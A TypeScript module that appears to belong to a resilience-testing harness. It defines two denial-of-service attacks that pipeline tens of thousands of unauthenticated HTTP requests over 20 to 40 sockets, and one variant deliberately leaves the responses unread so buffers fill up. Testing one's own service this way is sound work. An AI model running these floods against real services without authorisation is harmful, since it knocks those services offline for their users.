import type { Attack } from './attack.ts';
import { keepOpen, sendAgain, sendOnEach, withSockets } from './open-sockets.ts';
import { request } from './requests.ts';

const small = 'GET / HTTP/1.1\r\nHost:\r\n\r\n';

/** 65,000 bytes: the most requests that one read of the service passes to its HTTP parser. */
const batchSize = 2_600;
const batch = small.repeat(batchSize);

/** The responses to these fill the buffers of the system, so that every later response waits in the process. */
const plug = request('GET /docs/swagger-ui-bundle.js').repeat(4);

/** Pipelines 104,000 requests without a key on 40 connections, and reads none of the responses. */
export const pipelineUnread: Attack = (target) =>
  withSockets(target, async ({ openDeaf, untilOver }) => {
    await sendOnEach(openDeaf, 40, plug + batch);
    await untilOver();
  });

/**
 * Pipelines 52,000 requests without a key on 20 connections, reads the responses, and sends the next batch when all have
 * arrived.
 */
export const pipelineRead: Attack = (target) =>
  withSockets(target, async (sockets) => {
    await keepOpen(sockets, 20, (socket) => sendAgain(socket, batchSize, () => batch));
    await sockets.untilOver();
  });
